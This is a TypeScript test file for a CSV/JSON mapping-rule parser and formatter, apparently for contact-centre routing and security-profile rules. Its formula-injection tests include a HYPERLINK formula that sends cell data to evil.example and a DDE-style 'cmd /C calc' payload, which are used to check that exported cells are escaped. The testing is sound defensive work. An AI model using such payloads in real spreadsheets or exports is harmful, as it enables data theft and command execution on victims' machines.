import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type MappingRule, validateMappingRule } from "../../../shared/domain/mapping-rule.js";
import {
  CSV_COLUMNS,
  formatOf,
  formatRulesCsv,
  parseRuleFile,
  parseRulesCsv,
  parseRulesJson,
} from "../../../shared/domain/mapping-rule-file.js";
import { rule } from "../../support/builders.js";

const SEED = 20261128;

const sample = (name: string) =>
  readFileSync(new URL(`../../../events/${name}`, import.meta.url), "utf8");

const HEADER = CSV_COLUMNS.join(",");
const withoutTags = ({ tags: _tags, ...rest }: MappingRule) => rest;

describe("the sample rule files", () => {
  it("give the same rules from JSON and CSV, except the tags CSV has no column for", () => {
    const json = parseRulesJson(sample("mappings.json"));
    const csv = parseRulesCsv(sample("mappings.csv"));
    expect(json.errors).toEqual([]);
    expect(csv.errors).toEqual([]);
    expect(json.rules).toHaveLength(6);
    expect(csv.rules.map(withoutTags)).toEqual(json.rules.map(withoutTags));
    expect(csv.rules.every((r) => Object.keys(r.tags).length === 0)).toBe(true);
    expect(json.rules[0]?.tags).toEqual({ costCenter: "CC-100" });
  });

  it("round-trip through formatRulesCsv", () => {
    const json = parseRulesJson(sample("mappings.json")).rules;
    const again = parseRulesCsv(formatRulesCsv(json));
    expect(again.errors).toEqual([]);
    expect(again.rules).toEqual(json.map((r) => ({ ...r, tags: {} })));
  });
});

describe("parseRulesCsv", () => {
  it("uses the documented header", () => {
    expect(HEADER).toBe(
      "ruleId,priority,enabled,department,jobTitle,jobCode,location,country,employmentType,routingProfile,securityProfiles,hierarchyGroup,phoneType,autoAccept,afterContactWorkTimeLimit",
    );
  });

  it("reads quoted cells holding commas, doubled quotes and line breaks", () => {
    const csv = [
      HEADER,
      'r1,0,true,"Care, West",,,,,,"The ""A"" Routing","Agent|Spanish, QA","Line one\nline two",,,',
    ].join("\n");
    const { rules, errors } = parseRulesCsv(csv);
    expect(errors).toEqual([]);
    expect(rules).toEqual([
      rule({
        ruleId: "r1",
        match: { department: "Care, West" },
        routingProfile: 'The "A" Routing',
        securityProfiles: ["Agent", "Spanish, QA"],
        hierarchyGroup: "Line one\nline two",
      }),
    ]);
  });

  it("reads CRLF line endings and a UTF-8 byte order mark", () => {
    const csv = `\uFEFF${HEADER}\r\nr1,5,false,Sales,,,,,,RP,Agent,,desk_phone,yes,15\r\nr2,,,,,,,,,RP,Agent,,,,\r\n`;
    const { rules, errors } = parseRulesCsv(csv);
    expect(errors).toEqual([]);
    expect(rules).toEqual([
      rule({
        ruleId: "r1",
        priority: 5,
        enabled: false,
        match: { department: "Sales" },
        routingProfile: "RP",
        phone: { type: "DESK_PHONE", autoAccept: true, afterContactWorkTimeLimit: 15 },
      }),
      rule({ ruleId: "r2", routingProfile: "RP" }),
    ]);
  });

  it("reads a header-only file as no rules", () => {
    expect(parseRulesCsv(`${HEADER}\n`)).toEqual({ rules: [], errors: [], warnings: [] });
  });

  it("reports every bad row with its line number and keeps the good ones", () => {
    const csv = [
      HEADER, // line 1
      'good-1,0,true,Care,,,,,,RP,Agent,"Team', // line 2
      'One",,,', // line 3 (same row as line 2)
      "no-routing,0,true,Care,,,,,,,Agent,,,,", // line 4
      "good-2,1,true,Sales,,,,,,RP,Agent,,DESK_PHONE,,", // line 5
      "", // line 6: blank, skipped
      "bad-priority,high,true,,,,,,,RP,Agent,,,,", // line 7
      'bad-phone,0,true,"multi', // line 8
      'line",,,,,,RP,Agent,,CELL_PHONE,,', // line 9 (same row as line 8)
      "good-3,0,true,,,,,,,RP,Agent|Supervisor,,,,", // line 10
    ].join("\n");
    const { rules, errors } = parseRulesCsv(csv);
    expect(rules.map((r) => r.ruleId)).toEqual(["good-1", "good-2", "good-3"]);
    expect(rules[0]?.hierarchyGroup).toBe("Team\nOne");
    expect(errors).toHaveLength(3);
    expect(errors.map(({ where, ruleId }) => ({ where, ruleId }))).toEqual([
      { where: "line 4", ruleId: "no-routing" },
      { where: "line 7", ruleId: "bad-priority" },
      { where: "line 8", ruleId: "bad-phone" },
    ]);
    expect(errors[0]?.message).toBe("routingProfile is required");
    expect(errors[1]?.message).toBe('priority must be a number, got "high"');
    // A CSV row's issues name its columns.
    expect(errors[2]?.message).toBe(
      'phoneType must be "SOFT_PHONE" or "DESK_PHONE", got "CELL_PHONE"',
    );
  });

  it("reports duplicate ruleIds and keeps the first", () => {
    const csv = [
      HEADER,
      "dup,0,true,Care,,,,,,RP-1,Agent,,,,",
      "other,0,true,,,,,,,RP,Agent,,,,",
      "dup,9,true,Sales,,,,,,RP-2,Agent,,,,",
    ].join("\n");
    const { rules, errors } = parseRulesCsv(csv);
    expect(rules.map((r) => [r.ruleId, r.routingProfile])).toEqual([
      ["dup", "RP-1"],
      ["other", "RP"],
    ]);
    expect(errors).toEqual([
      { where: "line 4", ruleId: "dup", message: "duplicate ruleId (first at line 2)" },
    ]);
  });

  it("reports unknown and missing columns on line 1, and reads no rules", () => {
    const unknown = parseRulesCsv(`${HEADER},costCentre\nr1,0,true,,,,,,,RP,Agent,,,,,CC-1\n`);
    expect(unknown.rules).toEqual([]);
    expect(unknown.errors).toHaveLength(1);
    expect(unknown.errors[0]?.where).toBe("line 1");
    expect(unknown.errors[0]?.message).toContain(
      'column "costCentre" is not a known column; columns are ruleId,',
    );
    const typo = parseRulesCsv("ruleId,routingProfile,securityProfiles,hierachyGroup\n");
    expect(typo.errors[0]?.message).toContain(
      'column "hierachyGroup" is not a known column; did you mean "hierarchyGroup"?',
    );

    const missing = parseRulesCsv("ruleId,priority,routingProfile\nr1,0,RP\n");
    expect(missing.rules).toEqual([]);
    expect(missing.errors).toEqual([
      expect.objectContaining({
        where: "line 1",
        message: expect.stringContaining('column "securityProfiles" is required'),
      }),
    ]);

    const both = parseRulesCsv("ruleId,team\nr1,x\n");
    expect(both.errors).toHaveLength(1);
    expect(both.errors[0]?.message).toMatch(
      /column "team" is not a known column; column "routingProfile" is required; column "securityProfiles" is required/,
    );
  });

  it("accepts a subset of the columns in any order", () => {
    const { rules, errors } = parseRulesCsv(
      "securityProfiles,routingProfile,ruleId,location\nAgent|QA,RP,r1,austin\n",
    );
    expect(errors).toEqual([]);
    expect(rules).toEqual([
      rule({
        ruleId: "r1",
        routingProfile: "RP",
        securityProfiles: ["Agent", "QA"],
        match: { location: "austin" },
      }),
    ]);
  });

  it("reports an empty file as a missing header", () => {
    expect(parseRulesCsv("")).toEqual({
      rules: [],
      errors: [{ where: "line 1", message: "missing the header row" }],
      warnings: [],
    });
  });
});

describe("parseRulesJson and parseRuleFile", () => {
  it("reports a file that is not JSON or not an array", () => {
    expect(parseRulesJson("{").errors).toEqual([
      expect.objectContaining({
        where: "file",
        message: expect.stringContaining("not valid JSON"),
      }),
    ]);
    expect(parseRulesJson('{"ruleId":"r1"}')).toEqual({
      rules: [],
      errors: [{ where: "file", message: "must be a JSON array of rules" }],
      warnings: [],
    });
  });

  it("reports bad items by 1-based position and duplicates, keeping the good ones", () => {
    const items = [
      { ruleId: "a", routingProfile: "RP", securityProfiles: ["Agent"] },
      { ruleId: "b", routingProfile: "RP" },
      "not a rule",
      { ruleId: "a", routingProfile: "RP", securityProfiles: ["Agent"] },
    ];
    const { rules, errors } = parseRulesJson(JSON.stringify(items));
    expect(rules.map((r) => r.ruleId)).toEqual(["a"]);
    expect(errors.map(({ where, ruleId }) => ({ where, ruleId }))).toEqual([
      { where: "item 2", ruleId: "b" },
      { where: "item 3", ruleId: undefined },
      { where: "item 4", ruleId: "a" },
    ]);
    expect(errors[0]?.message).toContain("securityProfiles");
    expect(errors[2]?.message).toBe("duplicate ruleId (first at item 1)");
  });

  it("rejects unknown keys anywhere in a rule, and warns about unknown match keys", () => {
    const items = [
      { ruleId: "typo", routingProfile: "RP", securityProfiles: ["Agent"], hierachyGroup: "G" },
      {
        ruleId: "phone",
        routingProfile: "RP",
        securityProfiles: ["Agent"],
        phone: { autoAcept: true },
      },
      {
        ruleId: "dept",
        routingProfile: "RP",
        securityProfiles: ["Agent"],
        match: { departmnet: "Care" },
      },
    ];
    const { rules, errors, warnings } = parseRulesJson(JSON.stringify(items));
    expect(errors).toEqual([
      {
        where: "item 1",
        ruleId: "typo",
        message: 'hierachyGroup is not a known key; did you mean "hierarchyGroup"?',
      },
      {
        where: "item 2",
        ruleId: "phone",
        message: 'phone.autoAcept is not a known key; did you mean "autoAccept"?',
      },
    ]);
    expect(rules.map((r) => r.ruleId)).toEqual(["dept"]);
    expect(warnings).toEqual([
      {
        where: "item 3",
        ruleId: "dept",
        message: 'match.departmnet is not a known employee field; did you mean "department"?',
      },
    ]);
  });

  it("takes the known attributes as a parameter: a declared custom attribute is no warning", () => {
    const text = JSON.stringify([
      { ruleId: "cc", routingProfile: "RP", securityProfiles: ["A"], match: { costCenter: "1" } },
    ]);
    expect(parseRuleFile(text, "json").warnings).toHaveLength(1);
    expect(
      parseRuleFile(text, "json", { knownAttributes: ["department", "costCenter"] }).warnings,
    ).toEqual([]);
  });

  it("rejects a rule naming a forbidden security profile (Admin by default)", () => {
    const text = JSON.stringify([
      { ruleId: "admins", routingProfile: "RP", securityProfiles: ["Agent", "admin"] },
      { ruleId: "agents", routingProfile: "RP", securityProfiles: ["Agent"] },
    ]);
    const { rules, errors } = parseRuleFile(text, "json");
    expect(rules.map((r) => r.ruleId)).toEqual(["agents"]);
    expect(errors).toEqual([
      {
        where: "item 1",
        ruleId: "admins",
        message:
          'security profile "admin" in rule admins is forbidden by FORBIDDEN_SECURITY_PROFILES; no rule may grant it',
      },
    ]);
    const other = parseRuleFile(text, "json", { forbiddenSecurityProfiles: ["Agent"] });
    expect(other.rules).toEqual([]);
    const csv = `ruleId,routingProfile,securityProfiles\nr1,RP,Agent|Admin\n`;
    expect(parseRuleFile(csv, "csv").errors[0]?.message).toContain(
      'security profile "Admin" in rule r1 is forbidden',
    );
  });

  it("chooses the format by file extension", () => {
    expect(formatOf("rules.CSV")).toBe("csv");
    expect(formatOf("rules.json")).toBe("json");
    expect(formatOf("rules")).toBe("json");
    expect(parseRuleFile(sample("mappings.csv"), "csv").rules).toHaveLength(6);
    expect(parseRuleFile(sample("mappings.json"), "json").rules).toHaveLength(6);
  });
});

// ---------------------------------------------------------------------------------------------
// Property: formatRulesCsv then parseRulesCsv gives the same rules (the CSV has no tags).

const MATCH_COLUMNS = [
  "department",
  "jobTitle",
  "jobCode",
  "location",
  "country",
  "employmentType",
];

// Cell text with the characters CSV must quote, plus Unicode; "|" separates security profiles.
const cellText = fc
  .string({
    unit: fc.oneof(
      { weight: 6, arbitrary: fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 1 }) },
      {
        weight: 2,
        arbitrary: fc.constantFrom(",", '"', "\n", "\r\n", "\r", " ", "*", "é", "Jose\u0301"),
      },
      // What a spreadsheet reads as a formula, and the apostrophe that marks a cell as text.
      { weight: 2, arbitrary: fc.constantFrom("=", "+", "-", "@", "'", "\t", "|") },
      { weight: 1, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }) },
    ),
    minLength: 1,
    maxLength: 12,
  })
  .filter((text) => text.trim() !== "");
// "|" separates security profiles: no profile name holds one.
const profileText = cellText.filter((text) => !text.includes("|"));

const priorityArb = fc.oneof(
  fc.integer(),
  fc.integer({ min: -1000, max: 1000 }).map((n) => n / 8),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => (Object.is(n, -0) ? 0 : n)),
);

const candidateArb = fc.record(
  {
    ruleId: cellText,
    priority: priorityArb,
    enabled: fc.boolean(),
    match: fc.dictionary(fc.constantFrom(...MATCH_COLUMNS), cellText, { maxKeys: 6 }),
    routingProfile: cellText,
    securityProfiles: fc.array(profileText, { minLength: 1, maxLength: 10 }),
    hierarchyGroup: cellText,
    phone: fc.record({
      type: fc.constantFrom("SOFT_PHONE", "DESK_PHONE"),
      autoAccept: fc.boolean(),
      afterContactWorkTimeLimit: fc.nat(),
    }),
  },
  { requiredKeys: ["ruleId", "routingProfile", "securityProfiles"] },
);

// Rules as the schema returns them: trimmed, defaulted, ruleIds unique.
const rulesArb = fc
  .uniqueArray(candidateArb, { maxLength: 6, selector: (candidate) => candidate.ruleId.trim() })
  .map((candidates) =>
    candidates.map((candidate) => {
      const result = validateMappingRule(candidate);
      if (!result.ok) throw new Error(`generator made an invalid rule: ${JSON.stringify(result)}`);
      return result.rule;
    }),
  );

describe("formatRulesCsv", () => {
  it("writes the header and one line per rule, tags left out", () => {
    const csv = formatRulesCsv([
      rule({ ruleId: "r1", match: { jobTitle: "Agent*" }, tags: { costCenter: "CC-1" } }),
    ]);
    expect(csv).toBe(
      `${HEADER}\nr1,0,true,,Agent*,,,,,Basic Routing Profile,Agent,,SOFT_PHONE,false,0\n`,
    );
  });

  it("round-trips through parseRulesCsv, formula characters and apostrophes included", () => {
    fc.assert(
      fc.property(rulesArb, (rules) => {
        const csv = formatRulesCsv(rules);
        const parsed = parseRulesCsv(csv);
        expect(parsed.errors).toEqual([]);
        expect(parsed.rules).toEqual(rules);
        for (const cell of csvCells(csv)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
      }),
      { numRuns: 600, seed: SEED },
    );
  });

  it("writes cells a spreadsheet would run as formulas as text, and reads them back", () => {
    const hostile = rule({
      ruleId: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      priority: -5,
      match: {
        department: "@SUM(1+1)*cmd|' /C calc'!A0",
        jobTitle: "+1-Agent",
        jobCode: "-CC",
        location: "'=already quoted",
      },
      routingProfile: "=1+1",
      securityProfiles: ["@Agent", "Agent"],
      hierarchyGroup: "-Team",
    });
    const csv = formatRulesCsv([hostile]);
    const line = csv.split("\n")[1] as string;
    expect(line).toBe(
      [
        '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"',
        "-5",
        "true",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1-Agent",
        "'-CC",
        "''=already quoted",
        "",
        "",
        "'=1+1",
        "'@Agent|Agent",
        "'-Team",
        "SOFT_PHONE",
        "false",
        "0",
      ].join(","),
    );
    expect(parseRulesCsv(csv).rules).toEqual(
      [withoutTags(hostile)].map((r) => ({ ...r, tags: {} })),
    );
  });

  it("keeps an apostrophe that marks nothing, and reads a hand-written text marker", () => {
    const plain = rule({ ruleId: "o'brien", match: { location: "'Austin" } });
    expect(parseRulesCsv(formatRulesCsv([plain])).rules[0]).toMatchObject({
      ruleId: "o'brien",
      match: { location: "'Austin" },
    });
    const handWritten = `${HEADER}\n'=r1,0,true,'-x,,,,,,Basic,Agent,,,,\n`;
    expect(parseRulesCsv(handWritten).rules[0]).toMatchObject({
      ruleId: "=r1",
      match: { department: "-x" },
    });
  });
});

/** Every cell of a CSV the way a spreadsheet sees it: unquoted, doubled quotes undone. */
const csvCells = (csv: string): string[] => {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const char = csv[i];
    if (quoted) {
      if (char === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === "," || char === "\n") {
      cells.push(cell);
      cell = "";
    } else cell += char;
  }
  return cells;
};
